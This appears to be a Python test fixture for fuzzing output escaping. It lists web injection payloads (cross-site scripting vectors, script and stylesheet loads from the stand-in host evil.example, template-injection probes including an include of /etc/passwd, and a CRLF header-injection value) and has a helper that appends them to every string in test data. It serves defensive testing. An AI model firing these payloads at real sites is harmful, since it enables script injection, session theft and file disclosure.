"""Texts that want to be markup, script, style or template, and how they are put into answers."""

from collections.abc import Iterator
from typing import Any

_MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert`1`//",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Go on</button>",
    "<details open ontoggle=alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<template><b>x</b></template><x-y is=z>",
    "<?xml version='1.0'?><![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
_BREAKOUTS = [
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    "x onmouseover=alert(1) y=",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</ScRiPt\t><script>alert(1)</script>",
    "<!--<script>",
    "--!><img src=x onerror=alert(1)><!--",
]
_FOREIGN = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
]
_ADDRESSES = [
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "jAvAsCrIpT\t:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e",
    "/\\evil.example",
]
_TEMPLATES = [
    "{{7*7}}{% raw %}${7*7}",
    "{% include '/etc/passwd' %}{# x",
    "{{''.__class__.__mro__}}",
    "${alert(1)}`<b>`",
    "#{7*7}<%= 7*7 %>",
]
_ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;b&#x3e;&amp;lt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "\\x3cb\\x3e\\74b\\76",
    "+ADw-script+AD4-alert(1)",
    "\uff1cscript\uff1ealert(1)",
]
_STYLES = [
    "x;background:url(//evil.example)",
    "expression(alert(1))",
    "}*{display:none}@import '//evil.example';",
    "<style>@import'//evil.example'</style><link rel=stylesheet href=//evil.example>",
]
_CHARACTERS = [
    "\u2028alert(1)\u2029",
    "\u202eevil\u202c",
    "\u2066\u2067x\u2069\u200f",
    "\x00<b>\x0b",
    "\ufeff<b>\u200b\u00ad",
    "\ud800<b>\udfff",
    "\r\nset-cookie: a=b\r\n\r\n<b>",
    "\x1b[31m\x08\x7f",
    "__proto__",
    "a" * 300,
]
PAYLOADS = [*_MARKUP, *_BREAKOUTS, *_FOREIGN, *_ADDRESSES, *_TEMPLATES, *_ENCODED, *_STYLES, *_CHARACTERS]


def replaced(value: Any, payloads: Iterator[str]) -> Any:
    """The same, with the next payload after every text."""
    if isinstance(value, dict):
        return {key: replaced(item, payloads) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return [replaced(item, payloads) for item in value]
    return value + next(payloads) if isinstance(value, str) else value
